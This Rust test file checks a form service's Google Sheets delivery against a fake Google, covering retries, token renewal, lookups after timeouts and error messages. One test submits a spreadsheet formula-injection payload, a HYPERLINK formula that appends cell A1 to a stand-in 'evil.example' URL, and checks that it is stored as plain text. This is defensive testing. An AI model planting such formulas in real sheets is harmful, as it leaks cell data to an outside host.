//! The `sheets` effect against a loopback Google (support/sheets.rs): one row per submission,
//! the record's key in column A; the service account's token asked for once and renewed when
//! it expires or is refused; an append that may have happened (timeout, 5xx) looked up in the
//! key column before anything is sent again; a 429 retried; a refusal final with Google's
//! message; a visitor's formula kept as text.

use std::time::{Duration, Instant};

use serde_json::Value;

use onceform::services::worker::Worker;

use crate::on_both_backends;
use crate::support::chat::{attempts, chat_app, env_var, submission_id};
use crate::support::delivery::DeliveryApp;
use crate::support::sheets::{FakeGoogle, Fault, NOT_SHARED_ID, SHEET, SPREADSHEET_ID};
use crate::support::{inquiry, new_key, Backend};

on_both_backends!(
    one_row_per_submission_with_its_key_first_and_only_the_named_fields,
    a_timeout_after_google_appended_is_found_in_the_key_column_and_not_appended_again,
    a_timeout_before_google_appended_is_looked_up_then_appended_once,
    one_token_serves_many_rows_and_is_renewed_when_it_expires_or_is_refused,
    a_429_is_retried_and_appends_once,
    a_500_is_looked_up_then_appended_once,
    a_spreadsheet_not_shared_fails_with_googles_message,
    a_deleted_key_fails_with_the_token_endpoints_description,
    a_visitors_formula_stays_text,
);

/// The demo form appending to `spreadsheet` through the fake, with the `message` field.
async fn app(backend: Backend, google: &FakeGoogle, spreadsheet: &str) -> DeliveryApp {
    let var = env_var(&google.key_file());
    let table = format!(
        "spreadsheet_id = \"{spreadsheet}\"\nsheet = \"{}\"\ncredentials_env = \"{var}\"\napi_url = \"{}\"\nfields = [\"message\"]",
        SHEET,
        google.url
    );
    chat_app(backend, "sheets", &table, |_| {}).await
}

/// Runs `worker` (one process: one kept token) until the `sheets` record of `key` is SENT or FAILED_FINAL (an UNKNOWN
/// one is looked up on the way).
async fn until_settled(d: &DeliveryApp, worker: &Worker, key: &str) -> crate::support::delivery::EffectView {
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        worker.run_once().await;
        let effect = d.effect(key, "sheets").await;
        if ["SENT", "FAILED_FINAL"].contains(&effect.state.as_str()) {
            return effect;
        }
        assert!(Instant::now() < deadline, "not settled: {effect:?}");
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
}

/// The record's key (the key column's value) of the submission under `key`.
async fn effect_key(d: &DeliveryApp, key: &str) -> String {
    use diesel::prelude::*;
    use onceform::db::schema::{side_effects, submissions};
    let key = key.to_string();
    d.app
        .query(move |pool| {
            onceform::with_conn!(pool, |c| side_effects::table
                .inner_join(submissions::table)
                .filter(submissions::operation_id.eq(&key))
                .filter(side_effects::kind.eq("sheets"))
                .select(side_effects::effect_key)
                .first::<String>(c)
                .map_err(onceform::db::DbError::from))
        })
        .await
}

fn texts(cells: &[Value]) -> Vec<&str> {
    cells.iter().map(|c| c.as_str().unwrap()).collect()
}

/// The outcome labels of the record's attempts and lookups.
async fn outcomes(d: &DeliveryApp, key: &str) -> Vec<(String, Option<String>)> {
    d.attempts(key, "sheets").await
}

async fn one_row_per_submission_with_its_key_first_and_only_the_named_fields(backend: Backend) {
    let google = FakeGoogle::start().await;
    let d = app(backend, &google, SPREADSHEET_ID).await;
    let worker = d.worker();
    let (first, second) = (new_key(), new_key());
    assert_eq!(d.app.submit(&first, &inquiry("Call me at 555-0100")).await.status(), 201);
    assert_eq!(d.app.submit(&second, &inquiry("Another question")).await.status(), 201);
    until_settled(&d, &worker, &first).await;
    until_settled(&d, &worker, &second).await;
    assert_eq!(d.app.submit(&first, &inquiry("Call me at 555-0100")).await.status(), 200);
    d.settle(&worker).await;

    let rows = google.rows(SHEET);
    assert_eq!(rows.len(), 2, "one row per submission, none for the replay: {:?}", google.refused());
    let key = effect_key(&d, &first).await;
    let row = rows.iter().find(|r| r.cells[0] == key.as_str()).expect("the key in column A");
    let cells = texts(&row.cells);
    let id = submission_id(&d, &first).await;
    assert_eq!(cells[1], onceform::base::format::reference(&id));
    assert!(cells[2].ends_with('Z') && cells[2].len() == 20, "received, RFC 3339 UTC: {}", cells[2]);
    assert_eq!(cells[3], "Contact us");
    assert_eq!(cells[4], "", "no route");
    assert_eq!(cells[5..], ["Call me at 555-0100"], "then the named fields only");
    assert_eq!((row.input.as_str(), row.formulas.iter().any(|f| *f)), ("RAW", false));
    let effect = d.effect(&first, "sheets").await;
    assert_eq!((effect.state.as_str(), effect.attempts), ("SENT", 1));
    let reference = effect.provider_ref.unwrap();
    assert!(
        ["'Leads ''25'!A1:F1", "'Leads ''25'!A2:F2"].contains(&reference.as_str()),
        "the row's cells: {reference}"
    );
    assert_eq!(google.token_requests(), 1, "one token for both rows");
    assert!(google.refused().is_empty(), "{:?}", google.refused());
}

async fn a_timeout_after_google_appended_is_found_in_the_key_column_and_not_appended_again(backend: Backend) {
    let google = FakeGoogle::start().await;
    let d = app(backend, &google, SPREADSHEET_ID).await;
    let worker = d.worker();
    // Something already in the sheet: the key is found below it.
    let earlier = new_key();
    assert_eq!(d.app.submit(&earlier, &inquiry("Earlier")).await.status(), 201);
    until_settled(&d, &worker, &earlier).await;
    google.fault(Fault::HangAfterAppend(Duration::from_millis(1500)));
    let key = new_key();
    assert_eq!(d.app.submit(&key, &inquiry("Hello")).await.status(), 201);
    let effect = until_settled(&d, &worker, &key).await;

    assert_eq!(effect.state, "SENT");
    assert_eq!(effect.provider_ref.as_deref(), Some("'Leads ''25'!A2"), "the key's cell");
    let tried = outcomes(&d, &key).await;
    assert_eq!(tried[0], ("ambiguous".to_string(), Some("timeout".to_string())));
    assert_eq!(tried.last().unwrap().0, "lookup_found", "{tried:?}");
    assert!(!tried.iter().any(|t| t.0 == "sent"), "never appended again: {tried:?}");
    assert_eq!(google.rows(SHEET).len(), 2, "one row for this submission");
    assert_eq!(google.state.lock().unwrap().appends.len(), 2);
}

async fn a_timeout_before_google_appended_is_looked_up_then_appended_once(backend: Backend) {
    let google = FakeGoogle::start().await;
    let d = app(backend, &google, SPREADSHEET_ID).await;
    let worker = d.worker();
    google.fault(Fault::HangWithoutAppending(Duration::from_millis(1500)));
    let key = new_key();
    assert_eq!(d.app.submit(&key, &inquiry("Hello")).await.status(), 201);
    let effect = until_settled(&d, &worker, &key).await;

    assert_eq!((effect.state.as_str(), effect.attempts), ("SENT", 2));
    let tried: Vec<String> = outcomes(&d, &key).await.into_iter().map(|t| t.0).collect();
    assert_eq!(tried, ["ambiguous", "lookup_absent", "sent"]);
    let rows = google.rows(SHEET);
    assert_eq!(rows.len(), 1);
    assert_eq!(rows[0].cells[0], effect_key(&d, &key).await.as_str());
    let s = google.state.lock().unwrap();
    assert_eq!((s.appends.len(), s.lookups), (2, 1), "looked up before it was sent again");
}

async fn one_token_serves_many_rows_and_is_renewed_when_it_expires_or_is_refused(backend: Backend) {
    let google = FakeGoogle::start().await;
    google.state.lock().unwrap().expires_in = 4;
    let d = app(backend, &google, SPREADSHEET_ID).await;
    let worker = d.worker();
    for n in 0..3 {
        let key = new_key();
        assert_eq!(d.app.submit(&key, &inquiry(&format!("Row {n}"))).await.status(), 201);
        assert_eq!(until_settled(&d, &worker, &key).await.state, "SENT");
    }
    assert_eq!(google.token_requests(), 1, "the token is kept");

    tokio::time::sleep(Duration::from_millis(4100)).await;
    let key = new_key();
    assert_eq!(d.app.submit(&key, &inquiry("After expiry")).await.status(), 201);
    assert_eq!(until_settled(&d, &worker, &key).await.state, "SENT");
    assert_eq!(google.token_requests(), 2, "renewed once it expired");
    assert!(
        !google.refused().contains(&"auth".to_string()),
        "never used after it expired: {:?}",
        google.refused()
    );

    // Google refuses the kept token (revoked, expired early): a new one, the same attempt.
    google.fault(Fault::ExpireTokens);
    let key = new_key();
    assert_eq!(d.app.submit(&key, &inquiry("Refused token")).await.status(), 201);
    let effect = until_settled(&d, &worker, &key).await;
    assert_eq!((effect.state.as_str(), effect.attempts), ("SENT", 1));
    assert_eq!(google.token_requests(), 3);
    assert_eq!(google.rows(SHEET).len(), 5);
}

async fn a_429_is_retried_and_appends_once(backend: Backend) {
    let google = FakeGoogle::start().await;
    let d = app(backend, &google, SPREADSHEET_ID).await;
    let worker = d.worker();
    google.fault(Fault::RateLimited);
    let key = new_key();
    assert_eq!(d.app.submit(&key, &inquiry("Hello")).await.status(), 201);
    let effect = until_settled(&d, &worker, &key).await;

    assert_eq!((effect.state.as_str(), effect.attempts), ("SENT", 2));
    let tried = attempts(&d, &key, "sheets").await;
    assert_eq!((tried[0].0.as_str(), tried[0].1.as_deref()), ("transient", Some("http_429")));
    let detail = tried[0].2.clone().unwrap_or_default();
    assert!(detail.starts_with("RESOURCE_EXHAUSTED: Quota exceeded"), "Google's words: {detail}");
    assert_eq!(google.rows(SHEET).len(), 1);
}

async fn a_500_is_looked_up_then_appended_once(backend: Backend) {
    let google = FakeGoogle::start().await;
    let d = app(backend, &google, SPREADSHEET_ID).await;
    let worker = d.worker();
    google.fault(Fault::ServerError(500));
    let key = new_key();
    assert_eq!(d.app.submit(&key, &inquiry("Hello")).await.status(), 201);
    let effect = until_settled(&d, &worker, &key).await;

    assert_eq!((effect.state.as_str(), effect.attempts), ("SENT", 2));
    let tried = outcomes(&d, &key).await;
    let labels: Vec<&str> = tried.iter().map(|t| t.0.as_str()).collect();
    assert_eq!(labels, ["ambiguous", "lookup_absent", "sent"]);
    assert_eq!(tried[0].1.as_deref(), Some("http_500"));
    assert_eq!(google.rows(SHEET).len(), 1);
}

async fn a_spreadsheet_not_shared_fails_with_googles_message(backend: Backend) {
    let google = FakeGoogle::start().await;
    let d = app(backend, &google, NOT_SHARED_ID).await;
    let worker = d.worker();
    let key = new_key();
    assert_eq!(d.app.submit(&key, &inquiry("Hello")).await.status(), 201);
    let effect = until_settled(&d, &worker, &key).await;

    assert_eq!((effect.state.as_str(), effect.attempts), ("FAILED_FINAL", 1));
    let tried = attempts(&d, &key, "sheets").await;
    assert_eq!((tried[0].0.as_str(), tried[0].1.as_deref()), ("permanent", Some("http_403")));
    let words = "PERMISSION_DENIED: The caller does not have permission";
    assert_eq!(tried[0].2.as_deref(), Some(words));
    let page = crate::support::chat::admin_page(&d, &key).await;
    assert!(page.contains("The caller does not have permission"), "Google's words on the page");
    assert_eq!(google.refused(), ["permission"]);
}

async fn a_deleted_key_fails_with_the_token_endpoints_description(backend: Backend) {
    let google = FakeGoogle::start().await;
    google.state.lock().unwrap().key_deleted = true;
    let d = app(backend, &google, SPREADSHEET_ID).await;
    let worker = d.worker();
    let key = new_key();
    assert_eq!(d.app.submit(&key, &inquiry("Hello")).await.status(), 201);
    let effect = until_settled(&d, &worker, &key).await;

    assert_eq!((effect.state.as_str(), effect.attempts), ("FAILED_FINAL", 1));
    let tried = attempts(&d, &key, "sheets").await;
    assert_eq!((tried[0].0.as_str(), tried[0].1.as_deref()), ("permanent", Some("token_http_400")));
    assert_eq!(tried[0].2.as_deref(), Some("invalid_grant: Invalid JWT Signature."));
    assert!(google.state.lock().unwrap().appends.is_empty());
}

async fn a_visitors_formula_stays_text(backend: Backend) {
    let google = FakeGoogle::start().await;
    let d = app(backend, &google, SPREADSHEET_ID).await;
    let worker = d.worker();
    let formula = r#"=HYPERLINK("https://evil.example/?"&A1,"Click")"#;
    let key = new_key();
    assert_eq!(d.app.submit(&key, &inquiry(formula)).await.status(), 201);
    assert_eq!(until_settled(&d, &worker, &key).await.state, "SENT");

    let rows = google.rows(SHEET);
    assert_eq!(rows[0].input, "RAW", "values stored as given, never parsed");
    assert_eq!(rows[0].cells[5], formula);
    assert!(rows[0].formulas.iter().all(|f| !f), "no cell is a formula");
}
